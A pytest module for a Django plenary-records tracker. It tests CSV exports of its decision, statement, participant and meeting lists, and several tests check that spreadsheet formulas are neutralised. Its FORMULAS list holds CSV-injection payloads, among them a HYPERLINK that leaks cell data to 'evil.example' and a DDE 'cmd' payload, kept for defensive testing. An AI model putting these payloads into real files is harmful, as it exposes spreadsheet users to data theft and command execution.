"""Every list researchers read offers a CSV of every record it finds, for the same query: the rows
its pages show, all of them and in their order, published records only, in flat columns a
spreadsheet reads safely.

The lists are read from the URLconf: each CSV (a ListCSV) names its page. The module's data is
the drafts fixture of test_drafts (the demo record and a marked draft of every publishable
model) and enough undated decisions and statements for a second page of each list."""

import csv
import datetime
import html
import io
import re

import django_filters
import pytest
from django.db import connection
from django.http import QueryDict
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.translation import gettext

from plenaries.csv_export import ListCSV, cell, neutralised
from plenaries.dates import PartialDate, Precision
from plenaries.models import (
    Decision,
    Participant,
    ParticipantName,
    Position,
    PublicationStatus,
    Statement,
    Topic,
)
from tests.conftest import module_data
from tests.factories import make_decision, make_meeting, make_participant, make_statement
from tests.routes import url_names
from tests.test_drafts import ALL_MARKERS, markers_in
from tests.test_drafts import build as build_drafts
from tests.test_list_feeds import SHOWN, address
from tests.test_query_counts import PAGE_QUERIES, VERSION_QUERIES

pytestmark = pytest.mark.django_db

PUBLISHED = PublicationStatus.PUBLISHED
LANGUAGES = ["en", "fr"]
FILLERS = 60  # undated decisions and statements: a second page of each list

LIST_CSVS = sorted(
    (name, pattern.callback)
    for name, pattern in url_names()
    if isinstance(pattern.callback, ListCSV)
)
IDS = [name for name, _ in LIST_CSVS]

# Queries each list is asked for (each finds something in the module's data): all of it, words,
# a facet, a year range where the list has one, another order.
QUERIES = {
    "plenaries:decision-list": [
        {},
        {"outcome": "blocked"},
        {"q": "russia"},
        {"q": "russia", "sort": "oldest"},
        {"year_from": "2012", "year_to": "2015"},
        {"topic": "central-african-republic", "sort": "oldest"},
        {"stance": "objected", "by": "russian-federation"},
    ],
    "plenaries:statement-list": [
        {},
        {"topic": "central-african-republic"},
        {"q": "dubai"},
        {"kind": "press-statement", "sort": "oldest"},
        {"issuer": "united-states-of-america"},
    ],
    "plenaries:participant-list": [
        {},
        {"kind": "state"},
        {"q": "republic"},
        {"status": "withdrawn"},
    ],
    "plenaries:meeting-list": [{}],
}

# A published record of each list whose text starts with a formula, and the column it shows in.
FORMULA_RECORDS = {
    "plenaries:decision-list": (
        lambda text: make_decision(title=text, publication_status=PUBLISHED),
        "title",
    ),
    "plenaries:statement-list": (
        lambda text: make_statement(
            title=text, issuer=Participant.objects.published().first(), publication_status=PUBLISHED
        ),
        "title",
    ),
    "plenaries:meeting-list": (
        lambda text: make_meeting(city=text, publication_status=PUBLISHED),
        "city",
    ),
    "plenaries:participant-list": (
        lambda text: make_participant(name=text, publication_status=PUBLISHED),
        "name",
    ),
}

# What spreadsheets run as formulas (OWASP, "CSV injection").
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    "+1",
    "-2+3",
    "\tTab",
    "\rCarriage return",
]


def build():
    """The drafts fixture of test_drafts, and more undated decisions and statements than a page
    of their lists holds."""
    drafts = build_drafts()
    Decision.objects.bulk_create(
        Decision(
            title=f"Filler {n}",
            slug=f"filler-{n}",
            outcome=Decision.Outcome.NOTED,
            publication_status=PUBLISHED,
        )
        for n in range(FILLERS)
    )
    issuer = Participant.objects.published().get(slug="united-states-of-america")
    Statement.objects.bulk_create(
        Statement(
            title=f"Filler {n}",
            slug=f"filler-{n}",
            issuer=issuer,
            kind=Statement.Kind.REPORT,
            publication_status=PUBLISHED,
        )
        for n in range(FILLERS)
    )
    return drafts


@pytest.fixture(scope="module")
def record_for_module(django_db_setup, django_db_blocker):
    yield from module_data(django_db_blocker, build)


@pytest.fixture
def record(record_for_module, db):
    return record_for_module


def read(response):
    """(the file's bytes, its rows as {column: text})."""
    assert response.streaming, "a CSV is streamed"
    body = b"".join(response.streaming_content)
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    return body, rows


def shown_on_every_page(client, list_name, query):
    """What a list's pages show for `query`, page after page, read as test_list_feeds reads its
    first page: (the records, how many pages)."""
    shown, number = [], 1
    while True:
        page = client.get(address(list_name, {**query, "page": number}))
        assert page.status_code == 200, (list_name, query, number)
        shown += SHOWN[list_name](page.context)
        paged = page.context.get("page_obj")
        if not paged or not paged.has_next():
            return shown, number
        number += 1


def test_every_list_with_a_feed_and_filters_has_a_csv():
    assert {export.list_name for _name, export in LIST_CSVS} == set(QUERIES)
    assert len(LIST_CSVS) == 4


@pytest.mark.parametrize(
    ("name", "export", "query"),
    [
        pytest.param(name, export, query, id=f"{name}-{query}")
        for name, export in LIST_CSVS
        for query in QUERIES.get(export.list_name, [None])
    ],
)
def test_each_lists_csv_holds_every_row_its_pages_show_in_their_order(
    client, record, name, export, query
):
    assert query is not None, f"{export.list_name}: say in QUERIES how to narrow it"
    shown, _pages = shown_on_every_page(client, export.list_name, query)
    assert shown, f"{export.list_name} shows nothing for {query}: choose another query"
    response = client.get(address(name, query))
    assert response.status_code == 200
    _body, rows = read(response)
    assert [row["slug"] for row in rows] == [record.slug for record in shown]
    links = [f"http://testserver{record.get_absolute_url()}" for record in shown]
    assert [row["url"] for row in rows] == links


@pytest.mark.parametrize(("name", "export"), LIST_CSVS, ids=IDS)
def test_a_csv_holds_every_page_of_its_list(client, record, name, export):
    shown, pages = shown_on_every_page(client, export.list_name, {})
    _body, rows = read(client.get(reverse(name)))
    assert len(rows) == len(shown)
    if export.list_name in ("plenaries:decision-list", "plenaries:statement-list"):
        assert pages > 1  # the CSV has the rows of the second page too


def test_the_csv_of_blocked_decisions_holds_what_the_blocked_list_shows(client, record):
    page = client.get("/decisions/?outcome=blocked")
    _body, rows = read(client.get("/decisions/csv/?outcome=blocked"))
    assert [row["slug"] for row in rows] == [d.slug for d in page.context["decisions"]]
    assert {row["outcome"] for row in rows} == {"blocked"}  # the stored value, not its label
    objected = next(
        row for row in rows if row["slug"] == "2024-examination-of-russias-diamond-production"
    )
    assert "Russian Federation" in objected["objected_by"].split("; ")


def test_a_decisions_row_flattens_its_record(client, record):
    _body, rows = read(client.get("/decisions/csv/"))
    by_slug = {row["slug"]: row for row in rows}
    suspension = by_slug["2013-car-suspension"]
    assert suspension["written_procedure"] == "true"
    assert suspension["date"] == "2013-05"  # known to the month
    assert suspension["review_on"] == "2013-06"
    assert suspension["meeting"] == suspension["meeting_slug"] == ""
    assert suspension["working_body"] == "Working Group on Monitoring"
    assert suspension["topics"] == "Central African Republic; Monitoring"
    assert suspension["participants_concerned"] == "Central African Republic"
    decision = Decision.objects.get(slug="2024-examination-of-russias-diamond-production")
    row = by_slug[decision.slug]
    assert row["meeting_slug"] == "2024-dubai"
    assert row["meeting"] == str(decision.meeting)
    assert row["date"] == decision.meeting.starts_on.isoformat()
    for stance in Position.Stance:
        named = [
            position.participant.name if position.participant else position.others
            for position in Position.objects.published()
            .filter(decision=decision, stance=stance)
            .in_stance_order()
        ]
        assert row[f"{stance}_by"] == "; ".join(named)


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize(("name", "export"), LIST_CSVS, ids=IDS)
def test_no_draft_reaches_a_csv(client, record, name, export, language):
    """Every list's CSV, in both languages, whole and searched for each draft's marker word."""
    filterset, _records = export.records(QueryDict())
    searched = filterset is not None and "q" in filterset.filters
    queries = [{}, *({"q": marker} for marker in ALL_MARKERS if searched)]
    for query in queries:
        with translation.override(language):
            response = client.get(address(name, query))
        assert response.status_code == 200, query
        body, rows = read(response)
        assert not markers_in(body.decode("utf-8-sig")), query
        if query:
            assert rows == [], query


@pytest.mark.parametrize("language", LANGUAGES)
def test_a_csv_links_to_pages_in_its_language(client, record, language):
    with translation.override(language):
        response = client.get(reverse("plenaries:decision-csv"))
    _body, rows = read(response)
    prefix = "http://testserver/fr/" if language == "fr" else "http://testserver/decisions/"
    assert rows and all(row["url"].startswith(prefix) for row in rows)


@pytest.mark.parametrize("payload", FORMULAS)
def test_a_formula_is_neutralised_with_a_leading_apostrophe(payload):
    assert neutralised(payload) == f"'{payload}"
    assert cell([payload, "Angola"]) == f"'{payload}; Angola"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("Côte d'Ivoire", "Côte d'Ivoire"),
        ("a = b", "a = b"),
        ("", ""),
        (None, ""),
        (-2, -2),
        (3.5, 3.5),
        (True, "true"),
        (False, "false"),
        (datetime.date(2024, 11, 8), "2024-11-08"),
        (PartialDate(datetime.date(2024, 11, 1), Precision.MONTH), "2024-11"),
        (PartialDate(datetime.date(2024, 1, 1), Precision.YEAR), "2024"),
        (PartialDate(None), ""),
        (["Angola", "Botswana"], "Angola; Botswana"),
    ],
)
def test_numbers_dates_and_plain_text_are_written_as_they_are(value, written):
    assert cell(value) == written


@pytest.mark.parametrize(("name", "export"), LIST_CSVS, ids=IDS)
def test_a_records_formula_is_exported_neutralised(client, record, name, export):
    make, column = FORMULA_RECORDS[export.list_name]
    made = make(FORMULAS[0])
    _body, rows = read(client.get(reverse(name)))
    row = next(row for row in rows if row["slug"] == made.slug)
    assert row[column] == f"'{FORMULAS[0]}"


@pytest.mark.parametrize(("name", "export"), LIST_CSVS, ids=IDS)
def test_a_parameter_the_list_does_not_know_is_a_bad_request(client, record, name, export):
    response = client.get(address(name, {"colour": "red"}))
    assert response.status_code == 400
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert response.content.decode() == "“colour” is not a filter of this list."
    assert client.get(address(name, {"utm_source": "mail", "page": "2"})).status_code == 200


def bad_value(declared):
    """A value filter `declared` refuses."""
    if isinstance(declared, django_filters.ModelChoiceFilter):
        return "no-such-record"
    if isinstance(declared, django_filters.ChoiceFilter):
        return "nonsense"
    if isinstance(declared, django_filters.NumberFilter):
        return "twenty"
    if isinstance(declared, django_filters.CharFilter):
        return "x" * (declared.extra["max_length"] + 1)
    raise AssertionError(f"{declared!r}: say here what value it refuses")


@pytest.mark.parametrize(("name", "export"), LIST_CSVS, ids=IDS)
def test_a_value_the_list_refuses_is_a_bad_request_naming_it(client, record, name, export):
    """Each filter of the list's FilterSet, given a value it refuses."""
    filterset, _records = export.records(QueryDict())
    for field, declared in (filterset.filters if filterset else {}).items():
        if field == "page":  # a CSV holds every page: the page asked for is ignored
            continue
        response = client.get(address(name, {field: bad_value(declared)}))
        assert response.status_code == 400, field
        assert response.content.decode().startswith(f"{declared.label}: "), field


def test_a_year_range_running_backwards_is_a_bad_request(client, record):
    response = client.get("/decisions/csv/?year_from=2020&year_to=2010")
    assert response.status_code == 400
    assert response.content.decode() == "To year: The range ends before it starts."


@pytest.mark.parametrize(("name", "export"), LIST_CSVS, ids=IDS)
def test_a_csv_is_a_utf8_file_named_for_its_list_and_the_day(client, record, name, export):
    response = client.get(reverse(name))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == (
        f'attachment; filename="kp-tracker-{export.noun}-{today}.csv"'
    )
    body, rows = read(response)
    assert body.startswith(b"\xef\xbb\xbf")  # the byte order mark Excel reads UTF-8 by
    header = next(csv_module_reader(body))
    assert header == list(export.columns)
    assert all(re.fullmatch(r"[a-z]+(_[a-z]+)*", column) for column in header), header
    assert {"slug", "url"} <= set(header)
    assert len(rows) == len(shown_on_every_page(client, export.list_name, {})[0])


def csv_module_reader(body):
    return csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""))


def test_accents_reach_the_spreadsheet_as_written(client, record):
    body, rows = read(client.get("/participants/csv/"))
    assert "Côte d'Ivoire".encode() in body
    ivory = next(row for row in rows if row["slug"] == "cote-divoire")
    assert ivory["name"] == "Côte d'Ivoire"
    assert ivory["other_names"] == "Cote d'Ivoire; Ivory Coast"
    assert ivory["country"] == "CI"


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize(("name", "export"), LIST_CSVS, ids=IDS)
def test_each_list_links_its_csv_with_its_query(client, record, name, export, language):
    query = QUERIES[export.list_name][-1]
    with translation.override(language):
        page = client.get(address(export.list_name, {**query, "page": 1})).content.decode()
        csv_address = address(name, query)
        label = gettext("CSV of this list")
    escaped = html.escape(csv_address)
    assert re.search(
        rf'<link rel="alternate" type="text/csv"[^>]*href="{re.escape(escaped)}"', page
    )
    assert f'<a href="{escaped}" type="text/csv">{label}</a></p>' in page
    assert client.get(csv_address).status_code == 200


def csv_queries(client, name):
    """How many queries the whole CSV `name` costs, its lines read to the end."""
    with CaptureQueriesContext(connection) as queries:
        response = client.get(reverse(name))
        _body, rows = read(response)
    return len(queries), len(rows)


def add_rows():
    """More published records of every list, each with every kind of related record a CSV
    names: meetings with hosts, decisions with topics, participants concerned and positions,
    statements with decisions and topics, participants with other names."""
    topics = list(Topic.objects.all()[:2])
    for n in range(12):
        host = make_participant(publication_status=PUBLISHED)
        ParticipantName.objects.create(participant=host, name=f"Other name {n}")
        meeting = make_meeting(host=host, publication_status=PUBLISHED)
        decision = make_decision(meeting=meeting, publication_status=PUBLISHED)
        decision.topics.set(topics)
        decision.participants_concerned.add(host)
        Position.objects.create(decision=decision, participant=host, stance="proposed")
        Position.objects.create(decision=decision, others="a few others", stance="objected")
        statement = make_statement(issuer=host, meeting=meeting, publication_status=PUBLISHED)
        statement.decisions.add(decision)
        statement.topics.set(topics)


@pytest.mark.parametrize(("name", "export"), LIST_CSVS, ids=IDS)
def test_each_csv_costs_a_fixed_number_of_queries_whatever_its_rows(client, record, name, export):
    queries, rows = csv_queries(client, name)
    add_rows()
    more_queries, more_rows = csv_queries(client, name)
    assert more_rows >= rows + 12
    assert more_queries == queries <= PAGE_QUERIES[name] + VERSION_QUERIES
